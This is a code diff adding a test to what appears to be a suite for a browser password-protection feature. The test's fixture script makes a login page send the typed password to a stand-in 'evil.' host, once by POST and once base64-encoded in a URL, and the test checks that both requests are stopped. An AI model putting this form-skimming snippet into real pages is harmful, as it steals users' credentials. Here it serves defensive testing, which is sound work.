@@ -175,6 +175,27 @@ it('swaps into a request that a frame of another site sends', async () => {
   expect(swaps()).toBe(1)
 })
 
+it('stops a password that was typed on its way to another host', async () => {
+  site = await serveTrial(
+    trialForm(
+      '',
+      `const away = location.origin.replace('shop.', 'evil.') + '/take'
+       sends(async (v) => {
+         await fetch(away, { method: 'POST', body: JSON.stringify(v) }).catch(() => 0)
+         await fetch(away + '?' + btoa(unescape(encodeURIComponent(v.p)))).catch(() => 0)
+         await fetch('/in', { method: 'POST', body: JSON.stringify(v) })
+       })`,
+    ),
+  )
+  context = await browser.newContext({ serviceWorkers: 'block' })
+  const { strays, failure } = await tryLogin(context, site, { by: 'hand' })
+
+  expect(failure).toBeUndefined()
+  expect(JSON.parse(text()).p).toBe(password)
+  expect(strays).toMatchObject(['evil.localhost', 'evil.localhost'].map((host) => ({ host })))
+  expect(site.everything()).not.toContain('/take')
+})
+
 it('waits with a password that a page sends with its next step', async () => {
   const { page, loginPage, swaps } = await logIn(
     trialForm(
